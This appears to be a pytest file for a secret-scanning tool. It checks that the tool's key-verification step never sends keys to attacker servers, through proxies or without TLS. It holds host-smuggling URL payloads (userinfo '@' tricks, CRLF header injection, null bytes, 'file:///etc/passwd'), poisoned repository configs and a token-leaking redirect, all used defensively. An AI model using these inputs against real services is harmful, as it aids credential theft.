"""Attempts to have a key sent elsewhere, or in the clear: real servers wait for it there."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.servers import Certificate, Proxy, Received, Reply, Server, make_certificate, running
from tests.tools import Repository, keyguard
from tests.verify.gateway import HOST, NO_MESSAGE, gateway, liveness, sent, verify
from tests.verify.keys import FIRST


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> Certificate:
    """Of the Gateway's own name, and of this machine."""
    return make_certificate(
        tmp_path_factory.mktemp("certificate"), f"DNS:{HOST}", "DNS:localhost", "IP:127.0.0.1"
    )


@pytest.fixture
def evil() -> Iterator[Server]:
    """Whoever wants the key: takes everything for good."""
    with running(Server(lambda call: NO_MESSAGE)) as server:
        yield server


@pytest.fixture
def secure(certificate: Certificate) -> Iterator[Server]:
    """A Gateway that speaks TLS."""
    with running(Server(gateway({FIRST: NO_MESSAGE}), certificate.context)) as server:
        yield server


HOSTS = [
    "https://{host}@127.0.0.1:{port}",
    "{host}@127.0.0.1:{port}",
    "http://{host}@127.0.0.1:{port}",
    "http://{host}:443@127.0.0.1:{port}",
    "http://127.0.0.1:{port}#@{host}",
    "http://127.0.0.1:{port}/@{host}",
    "http://127.0.0.1:{port}?@{host}",
    "http://127.0.0.1:{port}\\@{host}",
    "http://127.0.0.1:{port}/v1/wa/message",
    "http://127.0.0.1:{port}\t",
    " http://127.0.0.1:{port}",
    "http://127.0.0.1:{port}\r\nHost: {host}",
    "http:127.0.0.1:{port}",
    "http:///127.0.0.1:{port}",
    "//127.0.0.1:{port}",
    "file://127.0.0.1:{port}",
    "ftp://127.0.0.1:{port}",
    "http://127.0.0.1%00.{host}:{port}",
    "http://127.0.0.1%2f:{port}",
    "http://１２７.0.0.1:{port}",
    "http://{host}。evil.example:{port}",
    "http://[::ffff:127.0.0.1:{port}",
    "http://0.0.0.0:{port}",
    "http://192.0.2.1:{port}",
    "http://[2001:db8::1]:{port}",
    "",
]


@pytest.mark.parametrize("host", HOSTS)
def test_what_is_no_plain_host_is_refused(host: str, evil: Server, folder: Path) -> None:
    result = verify(host.format(host=HOST, port=evil.port), folder, "--yes", "-f", "json")
    assert (result.code, result.out, evil.received) == (2, "", [])
    assert FIRST not in result.err


@pytest.mark.parametrize(
    "host", ["HTTPS://LOCALHOST:{port}", "localhost:{port}", "https://localhost.:{port}/"]
)
def test_spellings_of_one_host(
    host: str, secure: Server, certificate: Certificate, folder: Path
) -> None:
    options = ("--yes", "--ca", certificate.path, "-f", "json")
    assert liveness(verify(host.format(port=secure.port), folder, *options)) == ["alive"]


SETTINGS = {
    ".keyguard.toml": 'host = "{url}"\n',
    "pyproject.toml": '[tool.keyguard.verify]\nhost = "{url}"\n',
}


@pytest.mark.parametrize("name", SETTINGS)
def test_no_configuration_names_the_host(name: str, evil: Server, folder: Path) -> None:
    (folder / name).write_text(SETTINGS[name].format(url=evil.url))
    with running(Server(gateway({}))) as server:
        result = verify(server, folder, "--yes")
        assert (result.code, server.received) == (2, []), "a mistake in the configuration"
        assert verify(server, folder, "--yes", "--no-config").code == 1
    assert evil.received == []


VARIABLES = (
    "KEYGUARD_HOST", "KEYGUARD_VERIFY_HOST", "VERIFY_HOST", "HOST", "CONNEXEASE_API_URL",
    "GATEWAY_URL", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "SOCKS_PROXY",
)  # fmt: skip


def test_what_stands_in_a_repository_leads_nowhere(
    evil: Server, repository: Repository, tmp_path: Path
) -> None:
    """Neither its env files, nor its settings of git, nor those of other tools."""
    lines = "".join(f"{name}={evil.url}\n" for name in (*VARIABLES, "HTTPS_PROXY", "https_proxy"))
    for name in (".env", ".envrc", ".env.local", ".netrc", ".curlrc", ".npmrc", "pip.conf"):
        repository.write(name, lines)
    repository.write("app.py", f'key = "{FIRST}"\nURL = "{evil.url}/v1/wa/message"\n')
    repository.write("sitecustomize.py", "raise SystemExit('run')\n")
    for name in ("http.proxy", "https.proxy", f"url.{evil.url}/.insteadOf"):
        repository.git("config", name, evil.url)
    repository.commit()
    with running(Server(gateway({FIRST: NO_MESSAGE}))) as server:
        result = verify(server, repository.path, "--history", "--yes", "-f", "json", "--select",
                        "production-key")  # fmt: skip
        assert sent(server, FIRST) == [FIRST]
    assert evil.received == []
    assert "alive" in liveness(result)


def test_what_is_not_encrypted_goes_through_no_proxy(evil: Server, folder: Path) -> None:
    env = dict.fromkeys((*VARIABLES, "HTTPS_PROXY", "https_proxy"), evil.url)
    with running(Server(gateway({FIRST: NO_MESSAGE}))) as server:
        result = verify(server, folder, "--yes", "-f", "json", env=env)
    assert (liveness(result), evil.received) == (["alive"], [])


def through(proxy: Server, login: str = "", **more: str) -> dict[str, str]:
    url = f"http://{login}127.0.0.1:{proxy.port}"
    return {"HTTPS_PROXY": url, "https_proxy": url, "NO_PROXY": "", "no_proxy": "", **more}


def test_a_proxy_only_sees_the_name_of_the_host(
    secure: Server, certificate: Certificate, folder: Path
) -> None:
    """The Gateway's own name, which only the proxy can lead to this machine."""
    with running(Proxy(secure)) as proxy:
        result = keyguard(
            "verify", "--yes", "--ca", certificate.path, "-f", "json", cwd=folder,
            env=through(proxy, "ada:pass%40word@", XDG_CACHE_HOME=str(folder.parent / "c")),
        )  # fmt: skip
    assert liveness(result) == ["alive"]
    assert {(call.method, call.target) for call in proxy.received} == {("CONNECT", f"{HOST}:443")}
    told = {call.headers.get("Proxy-Authorization") for call in proxy.received}
    assert told == {"Basic YWRhOnBhc3NAd29yZA=="}
    assert sent(secure, FIRST) == [FIRST]
    assert all("Proxy-Authorization" not in call.headers for call in secure.received)
    assert FIRST.encode() not in bytes(proxy.seen)
    assert len(proxy.seen) > len(FIRST)
    assert "pass" not in result.out + result.err


def test_a_proxy_can_not_stand_in_for_the_gateway(evil: Server, folder: Path) -> None:
    with running(Proxy(evil)) as proxy:
        result = keyguard(
            "verify", "--yes", "-f", "json", cwd=folder,
            env=through(proxy, XDG_CACHE_HOME=str(folder.parent / "c")),
        )  # fmt: skip
    assert (result.code, liveness(result), evil.received) == (2, ["unknown"], [])
    assert FIRST.encode() not in bytes(proxy.seen)


@pytest.mark.parametrize("status", [301, 403, 407, 502])
def test_a_proxy_that_refuses(status: int, secure: Server, folder: Path) -> None:
    with running(Proxy(secure, status)) as proxy:
        result = verify(secure, folder, "--yes", "-f", "json", env=through(proxy, "u:secret@"))
    assert (result.code, liveness(result), secure.received) == (2, ["unknown"], [])
    assert f"refuses ({status})" in result.out
    assert "secret" not in result.out + result.err


@pytest.mark.parametrize(
    "address",
    ["socks5://127.0.0.1:{port}", "https://127.0.0.1:{port}", "http://127.0.0.1:{port}/path",
     "http://a b:{port}", "http://127.0.0.1:{port}\r\nX: y", "file:///etc/passwd"],
)  # fmt: skip
def test_a_proxy_of_another_kind_is_not_passed_by(
    address: str, evil: Server, secure: Server, folder: Path
) -> None:
    """Who set one may have a reason not to go without."""
    env = dict.fromkeys(("HTTPS_PROXY", "https_proxy"), address.format(port=evil.port))
    result = verify(secure, folder, "--yes", env=env)
    assert (result.code, evil.received, secure.received) == (2, [], [])
    assert "HTTPS_PROXY" in result.err


@pytest.mark.parametrize("excepted", ["127.0.0.1", "*", "localhost, 127.0.0.1"])
def test_hosts_that_no_proxy_is_for(
    excepted: str, secure: Server, certificate: Certificate, folder: Path
) -> None:
    with running(Proxy(secure)) as proxy:
        env = through(proxy, NO_PROXY=excepted, no_proxy=excepted)
        options = ("--yes", "--ca", certificate.path, "-f", "json")
        assert liveness(verify(secure, folder, *options, env=env)) == ["alive"]
    assert proxy.received == []


def test_certificates_are_checked(secure: Server, certificate: Certificate, folder: Path) -> None:
    unchecked = {
        "PYTHONHTTPSVERIFY": "0",
        "NODE_TLS_REJECT_UNAUTHORIZED": "0",
        "CURL_CA_BUNDLE": "",
    }
    result = verify(secure, folder, "--yes", "-f", "json", env=unchecked)
    assert (result.code, liveness(result), secure.received) == (2, ["unknown"], [])
    assert "certificate is not trusted" in result.out
    result = verify(secure, folder, "--yes", "-f", "json", "--ca", certificate.path)
    assert liveness(result) == ["alive"]


def test_the_certificate_has_to_be_of_the_host(tmp_path: Path, folder: Path) -> None:
    other = make_certificate(tmp_path, "DNS:example.org")
    with running(Server(gateway({}), other.context)) as server:
        result = verify(server, folder, "--yes", "-f", "json", "--ca", other.path)
    assert (result.code, liveness(result), server.received) == (2, ["unknown"], [])


def test_a_server_without_tls_is_not_spoken_to_in_the_clear(evil: Server, folder: Path) -> None:
    result = verify(f"https://127.0.0.1:{evil.port}", folder, "--yes", "-f", "json")
    assert (result.code, liveness(result), evil.received) == (2, ["unknown"], [])


def test_the_keys_of_a_connection_are_not_written(
    secure: Server, certificate: Certificate, folder: Path, tmp_path: Path
) -> None:
    """SSLKEYLOGFILE has other programs write what it takes to read along."""
    log = tmp_path / "log"
    options = ("--yes", "--ca", certificate.path)
    verify(secure, folder, *options, env={"SSLKEYLOGFILE": str(log)})
    assert not log.exists()


def test_an_answer_that_was_believed_for_other_certificates_is_asked_again(
    secure: Server, certificate: Certificate, folder: Path, tmp_path: Path
) -> None:
    """Or a test server with the Gateway's name would have a say in what is reported later."""
    more = tmp_path / "more.pem"
    shutil.copy(certificate.path, more)
    more.write_text(more.read_text() + "\n")
    for ca in (certificate.path, certificate.path, more):
        verify(secure, folder, "--yes", "--ca", ca)
    assert len(sent(secure, FIRST)) == 2


@pytest.mark.parametrize("variable", ["SSL_CERT_FILE", "SSL_CERT_DIR"])
def test_so_is_one_that_the_environment_had_believed(
    variable: str, secure: Server, certificate: Certificate, folder: Path
) -> None:
    """These variables have OpenSSL trust others than the system does."""
    options = ("--yes", "--ca", certificate.path)
    for env in ({variable: str(folder)}, {variable: str(folder)}, {}):
        verify(secure, folder, *options, env=env)
    assert len(sent(secure, FIRST)) == 2


def test_a_name_that_does_not_resolve(folder: Path) -> None:
    result = verify("https://no-such-host.invalid", folder, "--yes", "-f", "json")
    assert (result.code, liveness(result)) == (2, ["unknown"])


def test_a_redirect_that_names_the_key(evil: Server, folder: Path) -> None:
    def moved(call: Received) -> Reply:
        token = (call.authorization or "").partition(" ")[2]
        return Reply(307, headers={"Location": f"{evil.url}/?k={token}", "Refresh": "0"})

    with running(Server(moved)) as server:
        assert liveness(verify(server, folder, "--yes", "-f", "json")) == ["unknown"]
    assert evil.received == []


@pytest.mark.parametrize("command", [["ci"], ["staged"], ["commits", "HEAD~1..HEAD"], ["scan"],
                                     ["history"], ["audit"]])  # fmt: skip
def test_no_other_command_asks(command: list[str], repository: Repository, tmp_path: Path) -> None:
    """Whatever the variables: a proxy would see the attempt."""
    repository.commit()
    repository.commit_file("app.py", f'key = "{FIRST}"\n')
    event = tmp_path / "event.json"
    event.write_text(json.dumps({}))
    with running(Proxy(Server(lambda call: NO_MESSAGE))) as proxy:
        env = through(proxy, GITHUB_EVENT_NAME="schedule", GITHUB_EVENT_PATH=str(event))
        result = keyguard(*command, "-f", "json", cwd=repository.path, env=env)
    assert proxy.received == []
    assert all("liveness" not in each["credential"] for each in result.json["findings"])
